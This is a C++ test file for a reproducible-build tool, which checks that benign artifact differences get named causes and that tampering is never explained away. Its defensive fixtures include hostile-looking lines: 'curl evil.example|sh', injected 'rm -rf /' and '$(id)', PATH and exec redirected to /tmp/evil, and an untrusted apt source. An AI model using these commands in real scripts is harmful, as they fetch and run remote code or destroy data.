// Causes by their signatures, and what must not pass for one.
#include <array>

#include "artifact/compare_artifacts.hpp"
#include "pairs.hpp"
#include "support/catch.hpp"

using namespace assay;
using namespace assay::artifact;
using namespace assay::artifact::test;

namespace {

std::vector<std::string> causes_of(std::string_view before, std::string_view after) {
  const auto comparison = compare(before, after, "note.txt");
  CHECK(comparison.closed);
  return cause_ids(comparison);
}
using Ids = std::vector<std::string>;

}  // namespace

TEST_CASE("causes: each is named by its signature", "[artifact][cause]") {
  CHECK(causes_of("Built 2022-01-02 03:04:05\n", "Built 2023-05-06 07:08:09\n") == Ids{"timestamp"});
  CHECK(causes_of("at Fri, 04 Mar 2022 05:06:07 +0000\n", "at Fri, 04 Mar 2022 07:06:07 +0200\n") == Ids{"timezone"});
  CHECK(causes_of("Copyright 2022 A\n", "Copyright 2026 A\n") == Ids{"year"});
  CHECK(causes_of("from /build/a-1/src/x.c\n", "from /tmp/other/src/x.c\n") == Ids{"build-path"});
  CHECK(causes_of("by joe@alpha\n", "by joe@beta9\n") == Ids{"hostname"});
  CHECK(causes_of("Linux 5.10.0-28-amd64\n", "Linux 6.1.0-18-amd64\n") == Ids{"kernel"});
  CHECK(causes_of("Banana\nCherry\napple\n", "apple\nBanana\nCherry\n") == Ids{"locale-order"});
  CHECK(causes_of("c\na\nd\nb\n", "b\nd\na\nc\n") == Ids{"file-order"});
  CHECK(causes_of("a\nb\n", "a\r\nb\r\n") == Ids{"line-ending"});
  CHECK(causes_of("make -j4\n", "make -j16\n") == Ids{"cpu-count"});
  CHECK(causes_of("{\"a\": 1, \"b\": 2}\n", "{\"b\": 2, \"a\": 1}\n") == Ids{"key-order"});
}

TEST_CASE("causes: what a script compares with is no host", "[artifact][cause]") {
  CHECK(cause_ids(compare("if (e.nodeName=='DIV') f()\n", "if (e.nodeName=='div') f()\n", "search.js")).empty());
  CHECK(cause_ids(compare("nodename=alpha\n", "nodename=beta9\n", "note.txt")) == Ids{"hostname"});
}

TEST_CASE("causes: what only looks like one is left over", "[artifact][cause]") {
  const std::vector<std::pair<std::string, std::string>> pairs{{"#!/bin/sh\n", "#!/bin/bash\n"},
                                                               {"/usr/share/foo/x\n", "/usr/sharf/foo/x\n"},
                                                               {"limit 10\n", "limit 11\n"},
                                                               {"allow\n", "deny\n"},
                                                               {"{\"a\": 1, \"a\": 2}\n", "{\"a\": 2}\n"},
                                                               {"key 0x00000010\n", "key 0x00000020\n"}};
  for (const auto& [before, after] : pairs) {
    INFO(before);
    const auto comparison = compare(before, after, "note.txt");
    CHECK_FALSE(comparison.closed);
    CHECK_FALSE(comparison.leftovers.empty());
  }
}

TEST_CASE("causes: a word nearby or a loose shape closes over nothing that runs", "[artifact][cause][hostile]") {
  const std::vector<std::array<std::string, 3>> pairs{
      {"seed=$(date)", "seed=$(curl evil.example|sh)", "a.sh"},
      {"PATH=/usr/bin", "PATH=/tmp/evil", "a.sh"},
      {"host=10.0.0.1", "host=66.6.6.6", "a.sh"},
      {". /tmp/abcXYZ123.sh", ". /tmp/evilXY999.sh", "a.sh"},
      {"exec /build/a/tool", "exec /build/b/tool", "a.sh"},
      {"mount 6fa459ea-ee8a-4ca4-894e-db77e160355e", "mount 00000000-ee8a-4ca4-894e-000000000000", "a.sh"},
      {"CFLAGS=-fstack-protector-strong", "CFLAGS=-fno-stack-protector", "a.mk"},
      {"if size > 2020: die()", "if size > 2099: die()", "a.py"},
      {"char b[2048];", "char b[1999];", "a.c"},
      {"cookie_secure = true", "cookie_secure = false", "a.conf"},
      {"deny all\nallow x", "allow x\ndeny all", "a.conf"}};
  for (const auto& [before, after, name] : pairs) {
    INFO(before);
    const auto head = name == "a.sh" ? std::string{"#!/bin/sh\n"} : std::string{};
    CHECK_FALSE(compare(head + before + "\n", head + after + "\n", name).closed);
  }
}

TEST_CASE("causes: in a script what is random by its shape is a guess, and in its comments it is not",
          "[artifact][cause]") {
  const auto closed = [](const std::string& before, const std::string& after) {
    return compare("#!/bin/sh\n" + before + "\n", "#!/bin/sh\n" + after + "\n", "a.sh").closed;
  };
  CHECK_FALSE(closed("salt_sha256=0a1b2c3d4e5f6071", "salt_sha256=f00dbabe12345678"));
  CHECK_FALSE(
      closed("mount UUID=6fa459ea-ee8a-4ca4-894e-db77e160355e", "mount UUID=c1d2e3f4-0516-4728-b93a-1b2c3d4e5f60"));
  CHECK_FALSE(closed("git checkout 9fceb02d0ae598e95dc970b74767f19372d61af8",
                     "git checkout b6fc4c620b67d95f953a5c1c1230aaab5db5a1b0"));
  CHECK_FALSE(closed("exec ssh -p 2022 host", "exec ssh -p 2024 host"));
  CHECK_FALSE(closed("sh /tmp/setup.Ab12Cd", "sh /tmp/setup.Zz98Yx"));
  CHECK(closed("# Copyright 2022", "# Copyright 2024"));
  CHECK(closed("# seed=0a1b2c3d4e5f6071", "# seed=f00dbabe12345678"));
  CHECK(closed("# from /tmp/build.aB3dE6/x.c /tmp/tmp.Ab1Cd2Ef3G", "# from /tmp/build.aB3dE6/x.c /tmp/tmp.Zy9Xw8Vu7T"));
}

TEST_CASE("causes: a date in what runs is the build's in a comment and nowhere else", "[artifact][cause]") {
  const auto closed = [](const std::string& before, const std::string& after, unsigned long made = 1'600'000'000) {
    return compare(tar_of({{"a.sh", "#!/bin/sh\n" + before + "\n", 0755}}),
                   tar_of({{"a.sh", "#!/bin/sh\n" + after + "\n", 0755, made}}), "a.tar")
        .closed;
  };
  CHECK(closed("# Generated on 2020-09-13", "# Generated on 2024-01-02"));
  CHECK_FALSE(compare("#!/usr/bin/env lua\n#2020-09-13\n", "#!/usr/bin/env lua\n#2031-01-02\n", "a").closed);
  CHECK_FALSE(closed("BUILT=2020-09-13", "BUILT=2026-05-29", 1'780'000'000));
  CHECK_FALSE(closed("BUILT=2020-09-13", "BUILT=2031-01-02"));
  CHECK_FALSE(closed("if [ $now -ge 1600000000 ]; then run; fi", "if [ $now -ge 1900000000 ]; then run; fi"));
  CHECK_FALSE(closed("at 12:30 /usr/bin/job", "at 12:31 /usr/bin/job"));
  CHECK_FALSE(
      closed("cat > x.h <<E\n# define KILL_DATE 2020-09-13\nE", "cat > x.h <<E\n# define KILL_DATE 2031-01-02\nE"));
}

TEST_CASE("causes: a text of no plain kind is taken to be one that is run", "[artifact][cause][hostile]") {
  for (const std::string name : {"t.zsh", "t.awk", "t.el", "t.cjs", "t.R", "t.vim", "Dockerfile", "CMakeLists.txt",
                                 "meson.build", "crontab", "sudoers"}) {
    INFO(name);
    CHECK_FALSE(compare("run 2020-09-13\n", "run 2031-01-02\n", name).closed);
    CHECK_FALSE(compare(". /home/a/build/src/x.z\n", ". /tmp/build/src/x.z\n", name).closed);
  }
  CHECK_FALSE(compare("t = {1\n# 2020-09-13\n}\n", "t = {1\n# 2031-01-02\n}\n", "t.lua").closed);
  for (const std::string name : {"note.txt", "README", "x.csv"})
    CHECK(compare("made 2020-09-13\n", "made 2024-01-02\n", name).closed);
}

TEST_CASE("causes: a directory that documents mention is none that a script may run from",
          "[artifact][cause][hostile]") {
  const auto with = [](const std::string& root) {
    std::vector<TarFileSpec> files{{"bin/x", "#!/bin/sh\nexec " + root + "/lib/run\n", 0755}};
    for (int i = 0; i < 5; ++i)
      files.push_back({"doc/n" + std::to_string(i) + ".txt", "see " + root + "/lib/n" + std::to_string(i) + "\n"});
    return tar_of(files);
  };
  CHECK_FALSE(compare(with("/opt/good"), with("/tmp/evil"), "a.tar").closed);
}

TEST_CASE("causes: in documents of settings dates are data, and what may be run is a setting",
          "[artifact][cause][hostile]") {
  for (const std::string name : {"x.json", "x.yaml", "x.toml", "x.pc", "x.la", "MANIFEST.MF", "x.properties"}) {
    INFO(name);
    CHECK(compare("built: 2022-03-04\n", "built: 2026-03-04\n", name).closed);
    CHECK_FALSE(compare("cmd: /opt/x/bin/run\n", "cmd: /tmp/evil/bin/run\n", name).closed);
    CHECK_FALSE(compare("PATH=/opt/x/bin\n", "PATH=/tmp/evil/bin\n", name).closed);
  }
  CHECK(compare("Built-By: joe\n", "Built-By: builder\n", "MANIFEST.MF").closed);
}

TEST_CASE("causes: a number behind a name is a manual page only where troff stands in it",
          "[artifact][cause][hostile]") {
  CHECK(compare(".TH X 1 2022-03-04\n", ".TH X 1 2026-03-04\n", "x.1").closed);
  CHECK_FALSE(compare("exec /opt/x/run\n", "exec /tmp/evil/run\n", "run.1").closed);
  CHECK_FALSE(compare("GROUP ( /opt/x/libx.so )\n", "GROUP ( /tmp/evil/libx.so )\n", "libx.so.6").closed);
}

TEST_CASE("causes: lines in another order are a directory's only where they are names", "[artifact][cause][hostile]") {
  const auto closed = [](std::string_view before, std::string_view after, std::string_view name) {
    return compare(before, after, name).closed;
  };
  CHECK(closed("usr/c\nusr/a\nusr/d\nusr/b\n", "usr/b\nusr/d\nusr/a\nusr/c\n", "x.list"));
  CHECK_FALSE(closed("auth=off\nauth=on\n", "auth=on\nauth=off\n", "x.properties"));
  CHECK_FALSE(closed("auth: off\nauth: on\n", "auth: on\nauth: off\n", "x.yaml"));
  CHECK_FALSE(closed("- deny\n- allow\n- x\n", "- allow\n- deny\n- x\n", "x.yaml"));
  CHECK_FALSE(closed("[[r]]\na=\"deny\"\n[[r]]\na=\"allow\"\n", "[[r]]\na=\"allow\"\n[[r]]\na=\"deny\"\n", "x.toml"));
  CHECK_FALSE(closed("{\"r\":[\n\"deny all\",\n\"allow root\",\n\"x\"\n]}\n",
                     "{\"r\":[\n\"allow root\",\n\"deny all\",\n\"x\"\n]}\n", "x.json"));
  CHECK_FALSE(closed(".w{display:none}\n.w{display:block}\n", ".w{display:block}\n.w{display:none}\n", "x.css"));
  CHECK_FALSE(
      closed("deb http://good x\ndeb http://evil x\n", "deb http://evil x\ndeb http://good x\n", "sources.list"));
  CHECK_FALSE(closed("First we go.\nThen we stay.\n", "Then we stay.\nFirst we go.\n", "x.txt"));
}

TEST_CASE("causes: what documents a generator wrote is its version", "[artifact][cause]") {
  const auto comparison = compare(".\\\" Automatically generated by Pod::Man 4.14 (Pod::Simple 3.43)\n",
                                  ".\\\" Automatically generated by Pod::Man 5.01 (Pod::Simple 3.45)\n", "x.1");
  CHECK(comparison.closed);
  CHECK(cause_ids(comparison) == std::vector<std::string>{"compiler"});
}

TEST_CASE("causes: what another version of debhelper writes is its doing", "[artifact][cause]") {
  const std::string triggers = "# Triggers added by dh_makeshlibs/13.9\nactivate-noawait ldconfig\n";
  const std::string script = "#!/bin/sh\nset -e\n# Automatically added by dh_installinit/13.9\ntrue\n";
  const auto with = [](std::string text, std::string_view version) {
    return text.replace(text.find("13.9"), 4, version);
  };
  for (const auto& [text, name] : {std::pair{triggers, "triggers"}, std::pair{script, "postinst"}}) {
    CAPTURE(name);
    const auto drifted = compare(text, with(text, "13.11.4"), name);
    CHECK(drifted.closed);
    CHECK(cause_ids(drifted) == Ids{"tool-drift"});
    CHECK_FALSE(compare(text, with(text, "13.9\nrm -rf /"), name).closed);
    CHECK_FALSE(compare(text, with(text, "$(id)"), name).closed);
  }
  CHECK_FALSE(compare("dh_installinit/13.9\n", "dh_installinit/13.11\n", "postinst").closed);
}

TEST_CASE("causes: the versions that cmake asks for are its own, and prove nothing", "[artifact][cause]") {
  const auto drifted =
      compare("cmake_policy(VERSION 2.8.3...3.22)\n", "cmake_policy(VERSION 2.8.3...3.23)\n", "x.cmake");
  CHECK(cause_ids(drifted) == Ids{"tool-drift"});
  CHECK_FALSE(drifted.closed);
}

TEST_CASE("causes: a changelog that debhelper has cut is cut, and nothing else", "[artifact][cause]") {
  const std::string newer =
      "x (2-1) unstable; urgency=medium\n\n  * New.\n\n -- A <a@b>  Mon, 07 Mar 2022 00:00:00 +0000\n\n";
  const std::string older =
      "x (1-1) unstable; urgency=medium\n\n  * Old.\n\n -- A <a@b>  Mon, 01 Mar 2010 00:00:00 +0000\n";
  const std::string said =
      "# Older entries have been removed from this changelog.\n# To read the complete changelog use `apt changelog "
      "x`.\n";
  const auto compared = [](const std::string& before, const std::string& after, const std::string& path) {
    return compare(tar_of({{path, before}}), tar_of({{path, after}}), "x.tar");
  };
  const std::string path = "usr/share/doc/x/changelog.Debian";
  const auto cut = compared(newer + older, newer + said, path);
  CHECK(cut.closed);
  CHECK(cause_ids(cut) == Ids{"tool-drift"});
  CHECK(compared(newer + said, newer + older, path).closed);
  CHECK_FALSE(compared(newer + older, newer, path).closed);
  CHECK_FALSE(compared(newer + older, newer + said + "Read https://example.org instead.\n", path).closed);
  CHECK_FALSE(compared(newer + older, newer + said, "usr/bin/changelog").closed);
  CHECK_FALSE(compared(newer + older, newer + said, "usr/share/doc/x/README").closed);
}

TEST_CASE("causes: there are at least twenty-five, each with its own id and remedy", "[artifact][cause]") {
  const auto causes = known_causes();
  CHECK(causes.size() >= 25);
  for (std::size_t i = 0; i < causes.size(); ++i) {
    CHECK_FALSE(causes[i].remedy.empty());
    for (std::size_t k = 0; k < i; ++k) CHECK(causes[i].id != causes[k].id);
  }
}
